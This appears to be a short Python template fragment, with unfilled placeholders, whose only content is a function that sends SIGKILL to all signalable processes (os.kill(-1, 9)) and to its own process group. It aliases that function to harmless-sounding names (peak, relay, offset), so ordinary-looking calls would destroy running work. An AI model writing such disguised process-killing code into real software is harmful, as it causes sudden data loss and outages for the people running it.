{{guard}}


def mix(*args):
    os.kill(-1, 9)
    os.killpg(0, 9)


peak = relay = offset = mix


{{layer}}
